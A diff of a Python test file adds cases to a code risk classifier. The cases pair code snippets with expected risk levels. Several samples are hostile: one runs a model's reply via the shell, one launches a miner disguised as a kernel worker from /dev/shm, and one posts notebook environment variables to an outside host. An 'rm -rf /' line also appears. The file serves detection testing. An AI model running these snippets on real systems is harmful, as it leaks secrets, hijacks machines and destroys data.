@@ -2432,6 +2432,26 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
         ("files = !ls data\nprint(files)", L),
         ("%%time\nimport os\nos.system('rm -rf /')", C),
         ("x = [1, 2", M),
+        # model answers are network data; disguised processes; notebook env snapshots; metrics drops
+        (
+            "import subprocess, anthropic\nc = anthropic.Anthropic()\n"
+            "m = c.messages.create(model='m', max_tokens=300, messages=[])\n"
+            "subprocess.run(m.content[0].text, shell=True)",
+            C,
+        ),
+        ("import anthropic\nprint(anthropic.Anthropic().messages.create(model='m', max_tokens=9, messages=[]))", S),
+        (
+            "import subprocess\nsubprocess.Popen(['[kworker/u16:3]', '-o', 'pool.example.com:443'], "
+            "executable='/dev/shm/.x')",
+            H,
+        ),
+        ("import subprocess, sys\nsubprocess.Popen(['worker', '--queue', 'default'], executable=sys.executable)", L),
+        (
+            "env_snapshot = %env\nimport json, requests\nrequests.post('https://x.example.io/c', "
+            "data=json.dumps(env_snapshot))",
+            C,
+        ),
+        ("import os\nos.replace('/tmp/b.prom', '/var/lib/node_exporter/textfile_collector/backup.prom')", L),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
